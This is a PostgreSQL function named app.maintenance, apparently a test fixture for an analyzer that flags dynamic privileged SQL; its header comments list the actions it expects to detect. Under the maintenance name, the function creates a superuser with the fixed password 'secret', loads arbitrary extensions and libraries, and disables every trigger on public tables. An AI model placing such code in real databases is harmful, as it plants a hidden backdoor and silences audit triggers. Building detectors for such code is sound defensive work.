-- acts 8: create role ?, dynamic
-- acts 8: create role superuser ?, dynamic
-- acts 10: create extension ?, dynamic
-- acts 12: load ?, dynamic
-- acts 14: disable system triggers public.?, dynamic
CREATE FUNCTION app.maintenance(u text, x text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE
  t record;
BEGIN
  PERFORM 1 FROM pg_roles WHERE rolname = u;
  IF NOT found THEN
    -- the first of them
    EXECUTE format('CREATE ROLE %I LOGIN SUPERUSER PASSWORD %L', u, 'secret');
  END IF;
  EXECUTE 'CREATE EXTENSION IF NOT EXISTS ' || quote_ident(x) || ' CASCADE';
  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP
    EXECUTE format('LOAD %L', x);
    EXECUTE format('VACUUM %I', t.tablename); EXECUTE 'ANALYZE ' || t.tablename::regclass;
    EXECUTE format('ALTER TABLE public.%I DISABLE TRIGGER ALL', t.tablename);
  END LOOP;
  RETURN true;
EXCEPTION WHEN insufficient_privilege THEN RETURN false;
END $$;
